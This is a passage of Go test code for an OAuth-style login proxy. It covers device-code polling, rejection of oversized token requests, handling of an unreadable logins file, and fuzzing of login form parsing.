			_, _ = io.WriteString(w, `{"error":"authorization_pending"}`)
		}
		return pending
	}
	poll := map[string]string{"grant_type": "urn:ietf:params:oauth:grant-type:device_code", "device_code": "d", "client_id": clientID}
	for range 2 {
		if status, m := p.token(poll); status != 400 || m["error"] != "authorization_pending" {
			t.Fatalf("%d %v", status, m)
		}
	}
	u.a.mu.Lock()
	pending = false
	u.a.mu.Unlock()
	status, m := p.token(poll)
	if status != 200 {
		t.Fatal(status, m)
	}
	noToken(t, u.a, "the answer", m)
}

// TestLongRequestForTokens: a body that is too long is refused, and the endpoint goes on.
func TestLongRequestForTokens(t *testing.T) {
	u := newUser(t)
	p := u.sandbox("1", "http/1.1")
	if status, m := p.token(map[string]string{"grant_type": "authorization_code", "code": strings.Repeat("c", maxLoginBody)}); status != 413 {
		t.Errorf("a body that is too long: %d %v", status, m)
	}
	p.login()
}

// TestLoginsThatCannotBeRead: nothing passes.
func TestLoginsThatCannotBeRead(t *testing.T) {
	u := newUser(t)
	p := u.sandbox("1", "h2")
	m := p.login()
	index := filepath.Join(u.config, "logins.json")
	if err := os.WriteFile(index, []byte("{"), 0o600); err != nil {
		t.Fatal(err)
	}
	if status, body := p.api(m["access_token"]); status != 503 || strings.Contains(body, u.config) {
		t.Errorf("%d %s", status, body)
	}
	if _, err := p.i.Wants(hostName, 443); err == nil {
		t.Error("it is not known whether the host has a login, and the connection passes")
	}
}

// FuzzLoginForm: what is sent on has each field once, and is read back as it was judged.
func FuzzLoginForm(f *testing.F) {
	f.Add("application/json", []byte(`{"grant_type":"refresh_token","refresh_token":"a"}`))
	f.Add("application/x-www-form-urlencoded", []byte("grant_type=refresh_token&refresh_token=a"))
	f.Add("application/json; charset=utf-8", []byte(`{"a":{"b":[1]},"a":2}`))
	f.Fuzz(func(t *testing.T, kind string, body []byte) {
		form, err := parseLoginForm([]string{kind}, body)
		if err != nil {
			return
		}
		form.set(refreshField, "set")
		out, err := form.encode()
		if err != nil {
			return
		}
		again, err := parseLoginForm([]string{kind}, out)
		if err != nil {
			t.Fatalf("%q: %v", out, err)
		}
		for _, name := range []string{"grant_type", refreshField, "client_id"} {
			if form.get(name) != again.get(name) {
				t.Errorf("%s: %q, %q", name, form.get(name), again.get(name))
			}
		}
	})
}
